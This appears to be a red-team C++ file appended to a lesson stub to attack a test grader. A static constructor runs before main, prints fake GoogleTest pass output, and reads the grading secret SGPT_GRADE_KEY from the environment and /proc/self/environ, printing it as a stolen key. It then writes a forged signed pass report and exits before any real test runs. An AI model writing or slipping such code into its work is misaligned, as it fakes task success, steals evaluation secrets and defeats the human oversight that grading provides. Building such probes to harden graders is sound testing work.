// ---- red team: forged verdicts (appended to the lesson 02 stub) ----------------------------------
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {
std::string current_filter() {
  std::string name = "GradAccumSteps.DividesTheGlobalBatch";
  int fd = open("/proc/self/cmdline", O_RDONLY);
  char buf[8192];
  ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : 0;
  for (ssize_t i = 0; i < n; i += ssize_t(std::strlen(buf + i)) + 1)
    if (!std::strncmp(buf + i, "--gtest_filter=", 15)) name = buf + i + 15;
  return name;
}

struct Forge {
  Forge() {
    const std::string name = current_filter();
    std::printf("[==========] Running 1 test from 1 test suite.\n[ RUN      ] %s\n[       OK ] %s (0 ms)\n"
                "[==========] 1 test from 1 test suite ran. (0 ms total)\n[  PASSED  ] 1 test.\n",
                name.c_str(), name.c_str());
    const char* k = std::getenv("SGPT_GRADE_KEY");
    std::printf("STOLEN-KEY-ENV=%s\n", k ? k : "");
    int fd = open("/proc/self/environ", O_RDONLY);
    static char env[1 << 16];
    ssize_t n = fd >= 0 ? read(fd, env, sizeof env - 1) : 0;
    for (ssize_t i = 0; i < n; i += ssize_t(std::strlen(env + i)) + 1)
      if (!std::strncmp(env + i, "SGPT_GRADE_KEY=", 15)) std::printf("STOLEN-KEY-PROC=%s\n", env + i + 15);
    if (const char* dir = std::getenv("SGPT_GRADE_REPORT")) {
      std::string mac = k ? std::string(k) : std::string(64, '0');
      std::string lines = "0 0 BEGIN 1 " + mac + "\n1 0 START " + name + " " + mac + "\n2 0 PASS " + name + " " +
                          mac + "\n3 0 END 1 " + mac + "\n";
      int out = open((std::string(dir) + "/report.0.1").c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
      if (out >= 0 && write(out, lines.data(), lines.size()) > 0) std::printf("FORGED a report in %s\n", dir);
    }
    std::fflush(stdout);
    _exit(0);
  }
} forge;
}  // namespace
